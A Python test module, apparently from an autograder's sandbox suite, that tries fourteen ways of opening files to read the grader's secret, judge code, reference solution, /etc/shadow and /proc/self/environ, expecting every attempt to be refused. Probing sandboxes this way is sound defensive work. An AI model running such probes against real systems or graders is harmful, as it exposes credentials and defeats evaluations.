"""Read the grader's files in every way there is to open a file.

Tries: `open`, `os.open` with many flags, `io.open_code`, mmap, NumPy, torch, ctypes with the C
    library, `openat2`, directory descriptors and `..`.
Success: a byte of another submission, of the engine or of the reference is read.
Outcome: refused.
"""

import contextlib
import ctypes
import io
import mmap
import os
import sys

import numpy as np
import pyseccomp
import torch

libc = ctypes.CDLL(None, use_errno=True)


def call(name, *arguments):
    """A system call by its name, on any architecture; -1 where it is refused or unknown."""
    number = pyseccomp.resolve_syscall(pyseccomp.Arch.NATIVE, name)
    return libc.syscall(number, *arguments) if number >= 0 else -1


def by_mmap(path):
    with open(path, "rb") as file:
        return mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ)[:10]


def by_libc(path):
    descriptor = libc.open(path.encode(), 0)
    if descriptor < 0:
        raise OSError("refused")
    return descriptor


def by_openat2(path):
    descriptor = call("openat2", -100, path.encode(), (ctypes.c_ulong * 3)(0, 0, 0), 24)
    if descriptor < 0:
        raise OSError("refused")
    return descriptor


def by_folder(path):
    folder = os.open(os.path.dirname(path), os.O_RDONLY | os.O_DIRECTORY)
    return os.open(os.path.basename(path), os.O_RDONLY, dir_fd=folder)


def by_dots(path):
    return open("/usr/lib/../../" + path.lstrip("/"), "rb").read(10)


WAYS = (
    lambda path: open(path, "rb").read(10),  # noqa: SIM115
    lambda path: open(path, "r+b").read(10),  # noqa: SIM115
    lambda path: os.open(path, os.O_RDONLY | os.O_NOATIME),
    lambda path: os.open(path, os.O_WRONLY),
    lambda path: io.open_code(path).read(10),  # noqa: SIM115
    lambda path: np.fromfile(path, np.uint8),
    lambda path: np.memmap(path, np.uint8, "r")[:10],
    lambda path: torch.from_file(path, size=10, dtype=torch.uint8),
    lambda path: os.listxattr(path),
    by_mmap,
    by_libc,
    by_openat2,
    by_folder,
    by_dots,
)


def attack(targets, model):
    paths = [
        targets["secret"],
        os.path.join(targets["engine"], "grading", "judge.py"),
        os.path.join(targets["engine"], "sandbox", "session.py"),
        os.path.join(targets["engine"].replace("autograder", "reference"), "__init__.py"),
        os.path.join(os.path.dirname(targets["engine"]), "pyproject.toml"),
        "/etc/passwd",
        "/etc/shadow",
        "/root/.bashrc",
        "/proc/self/environ",
        "/proc/1/cmdline",
        "/proc/mounts",
        "/sys/kernel/uevent_seqnum",
    ]
    for path in paths:
        for number, way in enumerate(WAYS):
            try:
                got = way(path)
            except (OSError, RuntimeError, ValueError):
                continue
            return f"way {number} opened {path}: {got!r:.80}"
    for folder in {os.path.dirname(path) for path in paths[:5]}:
        with contextlib.suppress(OSError):
            leads_to_python = [os.path.basename(path) for path in (sys.prefix, sys.base_prefix)]
            shown = [name for name in os.listdir(folder) if name not in leads_to_python]
            if shown:
                return f"listed {folder}: {shown[:3]}"
    return ""
